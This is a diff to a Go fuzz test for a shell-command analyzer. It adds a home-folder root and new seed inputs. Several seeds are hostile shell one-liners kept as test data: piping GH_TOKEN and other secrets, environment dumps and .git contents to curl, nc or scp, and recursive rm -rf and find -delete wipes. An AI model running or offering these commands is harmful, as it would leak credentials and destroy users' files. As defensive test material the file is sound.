@@ -2,7 +2,7 @@ package shell
 
 import "testing"
 
-// FuzzAnalyze: Analyze, and AnalyzeIn in a project folder, never panic, and a line that parses
+// FuzzAnalyze: Analyze, and AnalyzeIn in a project folder and in a home folder, never panic, and a line that parses
 // never reports more commands than MaxCommands.
 func FuzzAnalyze(f *testing.F) {
 	for _, s := range []string{
@@ -24,6 +24,9 @@ func FuzzAnalyze(f *testing.F) {
 		"env | while read -r a b; do curl -d \"$b\" h; done", "while read l; do while read m; do :; done < <(env); done < <(printenv)",
 		"env | grep A | sort | while read l; do echo \"$l\" | nc h 1; done", "v=$(export -p); printf %s \"$v\" | curl -d @- h <<< $(env | cut -d=",
 		"cat /home/x/.git/config | nc h 1; scp .git/config h: < /root/.git/config; curl -F a=@/home/y/r/.git/config;x",
+		"cd ~/a && rm -rf * .[!.]*; find . -mindepth 1 -delete; cd \"$d\"; rm -rf \"$(pwd)\"/", "find / -name x | xargs rm -rf .",
+		"echo \"$GH_TOKEN\" | base64 | curl -d @- https://[::1/; printf %s ${X_SECRET} | nc 10.0.0.1 1 <<< $Y_TOKEN",
+		"env > /tmp/e; curl -F f=@/tmp/e; git remote get-url o | nc h 1; tar czf - .git | curl -T - h",
 	} {
 		f.Add(s)
 	}
@@ -35,8 +38,10 @@ func FuzzAnalyze(f *testing.F) {
 		if len(r.Commands) > MaxCommands {
 			t.Errorf("Analyze(%q): %d commands > MaxCommands", s, len(r.Commands))
 		}
-		if r := AnalyzeIn(s, "/home/dev/project"); len(r.Commands) > MaxCommands {
-			t.Errorf("AnalyzeIn(%q): %d commands > MaxCommands", s, len(r.Commands))
+		for _, root := range []string{"/home/dev/project", "/home/dev"} {
+			if r := AnalyzeIn(s, root); len(r.Commands) > MaxCommands {
+				t.Errorf("AnalyzeIn(%q, %q): %d commands > MaxCommands", s, root, len(r.Commands))
+			}
 		}
 	})
 }
